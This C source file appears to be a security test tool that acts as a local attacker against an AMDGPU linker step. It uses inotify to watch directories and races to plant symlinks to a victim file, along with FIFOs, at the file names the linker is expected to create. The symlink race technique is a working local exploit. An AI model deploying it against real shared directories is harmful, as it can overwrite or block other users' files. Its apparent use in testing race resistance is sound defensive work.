/*
 * racer.c
 *		The local attacker of the AMDGPU link: watches directories with
 *		inotify and, at every new name starting with "silvan", plants
 *		symlinks to a victim file and FIFOs at the names a linker step
 *		could use next to it (NAME.log, NAME.hsaco, NAME.o) and inside
 *		it when it is a directory (every file name the linker step uses).
 *		Runs as another OS user until killed; prints what it planted.
 *
 *   racer VICTIM DIR...
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const beside[] = {".log", ".hsaco", ".o", ".out"};
static const char *const inside[] = {"object.o", "code.hsaco", "linker.log", "in.o", "out.hsaco", "log"};
static long planted;
static long refused;
static volatile sig_atomic_t stop;

/* Plant a symlink to victim at path, or a FIFO every other time */
static void
Plant(const char *path, const char *victim)
{
	int			ok = (planted + refused) % 2 == 0 ? symlink(victim, path) : mkfifo(path, 0666);

	if (ok == 0)
		planted++;
	else
		refused++;
}

static void
OnTerm(int sig)
{
	stop = 1;
}

int
main(int argc, char **argv)
{
	int			fd = inotify_init1(IN_CLOEXEC);
	char		buf[64 * 1024] __attribute__((aligned(8)));
	char	  **dirs = argv + 2;
	int			ndirs = argc - 2;
	int		   *wd;
	struct sigaction term;
	int			watched = 0;

	if (argc < 3 || fd < 0)
		return 2;
	/* no SA_RESTART: a signal must end the blocking read() */
	sigemptyset(&term.sa_mask);
	term.sa_handler = OnTerm;
	term.sa_flags = 0;
	sigaction(SIGTERM, &term, NULL);
	sigaction(SIGINT, &term, NULL);
	wd = calloc(ndirs, sizeof(int));
	for (int d = 0; d < ndirs; d++)
		if ((wd[d] = inotify_add_watch(fd, dirs[d], IN_CREATE | IN_MOVED_TO)) >= 0)
			watched++;
	while (!stop)
	{
		ssize_t		n = read(fd, buf, sizeof(buf));

		if (n < 0 && errno == EINTR)
			continue;

		for (char *p = buf; n > 0 && p < buf + n;)
		{
			struct inotify_event *ev = (struct inotify_event *) p;
			const char *dir = NULL;
			char		path[4096];

			for (int d = 0; d < ndirs; d++)
				if (wd[d] == ev->wd)
					dir = dirs[d];
			if (dir != NULL && ev->len > 0 && strncmp(ev->name, "silvan", 6) == 0 &&
				strchr(ev->name, '.') == NULL)
			{
				for (size_t i = 0; i < sizeof(beside) / sizeof(beside[0]); i++)
				{
					snprintf(path, sizeof(path), "%s/%s%s", dir, ev->name, beside[i]);
					Plant(path, argv[1]);
				}
				if (ev->mask & IN_ISDIR)
					for (size_t i = 0; i < sizeof(inside) / sizeof(inside[0]); i++)
					{
						snprintf(path, sizeof(path), "%s/%s/%s", dir, ev->name, inside[i]);
						Plant(path, argv[1]);
					}
			}
			p += sizeof(struct inotify_event) + ev->len;
		}
	}
	printf("%d of %d directories watched, %ld planted, %ld refused\n",
		   watched, ndirs, planted, refused);
	return 0;
}
